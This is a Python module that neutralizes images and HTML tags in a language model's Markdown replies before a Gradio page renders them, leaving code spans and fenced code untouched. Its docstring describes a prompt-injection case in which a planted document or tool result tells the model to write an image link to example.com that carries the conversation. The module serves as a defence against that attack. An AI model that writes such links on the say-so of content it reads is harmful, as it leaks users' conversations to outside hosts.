"""Markdown from a model, made inert before the page renders it.

The page renders replies as Markdown, and the browser fetches whatever an image in
them names, the moment it is drawn: a document or tool result that tells the model
to write ``![](https://example.com/?q=<the conversation>)`` would send the chat to
that address without a click. Gradio's sanitizer keeps scripts out but lets images
and other tags through. So, outside code, every ``<`` that could open a tag or an
autolink becomes ``&lt;`` and every ``![`` becomes ``&#33;[`` (a link the user may
follow or not): entities, not backslashes, since a backslash before them would
itself be escaped. Code is found as CommonMark finds it (a fence with nothing but
an info string free of backticks; a span closed by a run of backticks of the same
length, a backslash-escaped backtick opening none), and left as it is: it shows its
text literally. Where this reading and the renderer's could differ, the text is
escaped: too much escaping shows an entity, too little would load an address.
"""

from __future__ import annotations

import re

FENCE = re.compile(r" {0,3}(?:(`{3,})[^`]*|(~{3,}).*)$")
CLOSING = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*$")
# a newline before a line that is blank or may open a block of its own
PARAGRAPH_END = re.compile(r"\n(?=[ \t]*(?:\n|$)| {0,3}(?:[#>*+=|`~<-]|\d{1,9}[.)]))")
PUNCTUATION = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


def inert(text: str) -> str:
    """``text`` with no image and no HTML tag left to render, code untouched."""
    out: list[str] = []
    prose: list[str] = []
    fence = ""
    for line in text.splitlines(keepends=True):
        if fence:  # inside a fenced block: as it is, up to a closing fence of its kind
            out.append(line)
            closing = CLOSING.match(line.rstrip("\r\n"))
            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence):
                fence = ""
            continue
        opening = FENCE.match(line.rstrip("\r\n"))
        if opening:
            out.append(_prose("".join(prose)))
            prose = []
            out.append(line)
            fence = opening.group(1) or opening.group(2)
        else:
            prose.append(line)
    out.append(_prose("".join(prose)))
    return "".join(out)


def _prose(text: str) -> str:
    """Images and tags in ``text`` made entities, its code spans left as they are."""
    out: list[str] = []
    i = 0
    while i < len(text):
        character = text[i]
        if character == "\\" and i + 1 < len(text) and text[i + 1] in PUNCTUATION:
            if text[i + 1] in "<!":  # the escape stays; what follows is made safe next
                out.append("\\")
                i += 1
            else:
                out.append(text[i : i + 2])  # an escaped backtick opens no code span
                i += 2
            continue
        if character == "`":
            run = len(text) - i - len(text[i:].lstrip("`"))
            end = _closing_run(text, i + run, run)
            if end is None:  # no closing run: the backticks are plain text
                out.append("`" * run)
                i += run
            else:
                out.append(text[i:end])
                i = end
            continue
        if (
            character == "<"
            and i + 1 < len(text)
            and (text[i + 1].isalpha() or text[i + 1] in "/!?")
        ):
            out.append("&lt;")
        elif character == "!" and text.startswith("![", i):
            out.append("&#33;")
        else:
            out.append(character)
        i += 1
    return "".join(out)


def _closing_run(text: str, start: int, length: int) -> int | None:
    """Where a code span opened by ``length`` backticks before ``start`` ends (just past
    a run of exactly ``length`` backticks), or None when none closes it. The search
    stops where a paragraph may end (a blank line, a line that may start another
    block): a span is never assumed to reach past it, which could leave tags unescaped
    that the renderer reads outside code."""
    boundary = PARAGRAPH_END.search(text, start)
    window = text[start : boundary.start() if boundary else len(text)]
    for found in re.finditer(r"`+", window):
        if len(found.group()) == length:
            return start + found.end()
    return None
